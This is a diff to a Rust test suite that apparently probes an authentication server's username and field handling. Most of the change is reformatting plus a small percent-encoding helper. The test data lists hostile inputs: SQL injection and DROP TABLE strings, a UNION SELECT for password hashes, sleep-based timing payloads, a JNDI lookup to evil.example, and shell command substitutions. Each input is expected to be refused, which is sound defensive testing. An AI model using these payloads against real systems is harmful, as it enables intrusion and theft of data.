@@ -1,10 +1,12 @@
 //! UN: usernames. One name is one account, and no name is a statement, a tag or a line.
 
+use std::fmt::Write as _;
+
 use serde_json::json;
 
 use super::Case;
 use super::attack::{Attack, CANARY, Expected, answered, login_failed, refused};
-use super::passwords::{login, logged_in, register};
+use super::passwords::{logged_in, login, register};
 use super::wire::Request;
 use crate::server::PASSWORD;
 
@@ -51,7 +53,13 @@ fn letters_that_fold_to_others(attack: &mut Attack<'_>) {
 
 fn letters_that_look_like_others(attack: &mut Attack<'_>) {
     let name = attack.user();
-    for other in [name.replace('i', "\u{456}"), name.replace('c', "\u{441}"), name.replace('v', "\u{3bd}"), name.replace('m', "\u{ff4d}"), name.replace('i', "\u{e9}")] {
+    for other in [
+        name.replace('i', "\u{456}"),
+        name.replace('c', "\u{441}"),
+        name.replace('v', "\u{3bd}"),
+        name.replace('m', "\u{ff4d}"),
+        name.replace('i', "\u{e9}"),
+    ] {
         attack.tries(&register(&other, PASSWORD), &refused(422, "invalid_request"));
         attack.tries(&login(&other, PASSWORD), &login_failed());
     }
@@ -60,9 +68,23 @@ fn letters_that_look_like_others(attack: &mut Attack<'_>) {
 fn what_cannot_be_seen(attack: &mut Attack<'_>) {
     let name = attack.user();
     for (before, after) in [
-        ("", "\u{200b}"), ("\u{200d}", ""), ("\u{feff}", ""), ("", "\u{ad}"), ("\u{202e}", ""), ("\u{2066}", "\u{2069}"),
-        ("", "\u{301}\u{302}\u{303}\u{304}\u{305}"), ("", "\u{a0}"), (" ", ""), ("", " "), ("", "\t"), ("x ", ""), ("\u{e0041}", ""),
-        ("<img src=x>", ""), ("", "\r\nx: y"), ("-", ""), (".", ""),
+        ("", "\u{200b}"),
+        ("\u{200d}", ""),
+        ("\u{feff}", ""),
+        ("", "\u{ad}"),
+        ("\u{202e}", ""),
+        ("\u{2066}", "\u{2069}"),
+        ("", "\u{301}\u{302}\u{303}\u{304}\u{305}"),
+        ("", "\u{a0}"),
+        (" ", ""),
+        ("", " "),
+        ("", "\t"),
+        ("x ", ""),
+        ("\u{e0041}", ""),
+        ("<img src=x>", ""),
+        ("", "\r\nx: y"),
+        ("-", ""),
+        (".", ""),
     ] {
         let other = format!("{before}{name}{after}");
         attack.tries(&register(&other, PASSWORD), &refused(422, "invalid_request"));
@@ -76,15 +98,40 @@ fn nul_in_every_field(attack: &mut Attack<'_>) {
     let tokens = attack.login(&name);
     let nul = format!("{name}\0{CANARY}");
     for (method, path, body, expected) in [
-        ("POST", "/register", json!({"username": nul, "password": PASSWORD}), refused(422, "invalid_request")),
+        (
+            "POST",
+            "/register",
+            json!({"username": nul, "password": PASSWORD}),
+            refused(422, "invalid_request"),
+        ),
         ("POST", "/register", json!({"username": "x1y", "password": nul}), refused(422, "invalid_request")),
         ("POST", "/login", json!({"username": nul, "password": PASSWORD}), refused(422, "invalid_request")),
         ("POST", "/login", json!({"username": name, "password": nul}), refused(422, "invalid_request")),
-        ("POST", "/refresh", json!({"refresh_token": nul}), Expected::one_of(&[(401, "invalid_refresh_token"), (422, "invalid_request")])),
-        ("POST", "/logout", json!({"refresh_token": nul}), Expected::one_of(&[(401, "invalid_refresh_token"), (422, "invalid_request")])),
-        ("PUT", "/me/password", json!({"current_password": nul, "new_password": nul}), refused(422, "invalid_request")),
+        (
+            "POST",
+            "/refresh",
+            json!({"refresh_token": nul}),
+            Expected::one_of(&[(401, "invalid_refresh_token"), (422, "invalid_request")]),
+        ),
+        (
+            "POST",
+            "/logout",
+            json!({"refresh_token": nul}),
+            Expected::one_of(&[(401, "invalid_refresh_token"), (422, "invalid_request")]),
+        ),
+        (
+            "PUT",
+            "/me/password",
+            json!({"current_password": nul, "new_password": nul}),
+            refused(422, "invalid_request"),
+        ),
         ("DELETE", "/me", json!({"current_password": nul}), refused(422, "invalid_request")),
-        ("POST", "/login", json!({"username": name, "password": PASSWORD, "\0": CANARY}), refused(422, "invalid_request")),
+        (
+            "POST",
+            "/login",
+            json!({"username": name, "password": PASSWORD, "\0": CANARY}),
+            refused(422, "invalid_request"),
+        ),
     ] {
         let mut request = Request::json(method, path, body.to_string());
         if path.starts_with("/me") {
@@ -105,16 +152,36 @@ fn statements(attack: &mut Attack<'_>) {
     let name = attack.user();
     let tokens = attack.login(&name);
     for text in [
-        "' OR '1'='1", "' OR 1=1 --", "'; DROP TABLE users; --", "\" OR \"\"=\"", "') OR ('1'='1", "1; SELECT pg_sleep(2)", "'||pg_sleep(2)||'",
-        "' UNION SELECT password_hash FROM users --", "%", "_%", "\\", "\\' OR 1=1 --", "*", "$1", "?1", ":name", "NULL;", "x' COLLATE NOCASE --",
-        "randomblob(1000000000)", "{{7*7}}", "${jndi:ldap://evil.example/x}", "$(sleep 2)", "`id`",
+        "' OR '1'='1",
+        "' OR 1=1 --",
+        "'; DROP TABLE users; --",
+        "\" OR \"\"=\"",
+        "') OR ('1'='1",
+        "1; SELECT pg_sleep(2)",
+        "'||pg_sleep(2)||'",
+        "' UNION SELECT password_hash FROM users --",
+        "%",
+        "_%",
+        "\\",
+        "\\' OR 1=1 --",
+        "*",
+        "$1",
+        "?1",
+        ":name",
+        "NULL;",
+        "x' COLLATE NOCASE --",
+        "randomblob(1000000000)",
+        "{{7*7}}",
+        "${jndi:ldap://evil.example/x}",
+        "$(sleep 2)",
+        "`id`",
     ] {
         let username = format!("{name}{text}");
         attack.tries(&login(&username, CANARY), &login_failed());
         let body = json!({"username": text, "password": CANARY}).to_string();
         attack.tries(&Request::post("/login", body), &login_failed());
         attack.tries(&register(&username, PASSWORD), &refused(422, "invalid_request"));
-        let encoded: String = text.bytes().map(|byte| format!("%{byte:02X}")).collect();
+        let encoded = percent_encoded(text);
         for query in [format!("limit={encoded}"), format!("cursor={encoded}"), format!("sort={encoded}")] {
             let asked = Request::get(&format!("/me/activity?{query}")).bearer(&tokens.access);
             attack.tries(&asked, &refused(422, "invalid_request"));
@@ -123,4 +190,12 @@ fn statements(attack: &mut Attack<'_>) {
         attack.tries(&ended, &refused(404, "not_found"));
     }
     attack.tries(&Request::get("/me").bearer(&tokens.access), &answered(200));
+}
+
+/// Every byte of it.
+fn percent_encoded(text: &str) -> String {
+    text.bytes().fold(String::new(), |mut encoded, byte| {
+        write!(encoded, "%{byte:02X}").unwrap();
+        encoded
+    })
 }
